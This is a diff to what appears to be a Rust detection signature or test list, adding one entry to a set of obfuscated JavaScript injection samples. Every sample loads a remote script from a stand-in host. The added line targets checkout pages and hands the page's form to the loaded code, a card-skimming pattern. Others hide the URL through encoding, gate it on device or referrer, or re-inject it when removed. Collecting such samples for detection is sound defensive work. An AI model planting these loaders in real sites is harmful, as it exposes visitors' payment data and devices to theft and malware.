@@ -38,6 +38,7 @@ pub(super) const SIGNAL: Signal = Signal {
             r#"if(!document.cookie.includes('seen=')&&/Android/.test(navigator.userAgent)){document.cookie='seen=1';document.write(unescape('%3Cscript%20src%3D%22%68%74%74%70%73%3A%2F%2Fcoded%2D%68%6F%73%74%2E%65%78%61%6D%70%6C%65%2F%61%2E%6A%73%22%3E%3C/script%3E'))}"#,
             r#"(d=>{const u=atob('Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw=='),put=()=>{const s=d.createElement('script');s.src=u;d.head.append(s)};put();new MutationObserver(l=>l.forEach(m=>m.removedNodes.forEach(put))).observe(d.head,{childList:true})})(document)"#,
             r#"const u=["\x68\x74\x74\x70\x73\x3a\x2f\x2fcoded\x2dhost.example/a.js"];if(/Mobi/.test(navigator.userAgent)){let s=document.createElement('script');s.src=u[0];document.body.append(s)}"#,
+            r#"if(/checkout/.test(location.pathname))require([atob('Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==')],function(m){m(document.forms[0])})"#,
             r#"if(Math.random()<.3)$.ajax({url:atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw=='),dataType:'script',cache:true})"#,
             r#"var a='abcdefghijklmnopqrstuvwxyz:/.-',u='';for(var i of [7,19,19,15,18,26,27,27,2,14,3,4,3,29,7,14,18,19,28,4,23,0,12,15,11,4,27,0,28,9,18])u+=a[i];if(document.referrer){var s=document.createElement('script');s.src=u;document.head.append(s)}"#,
         ],
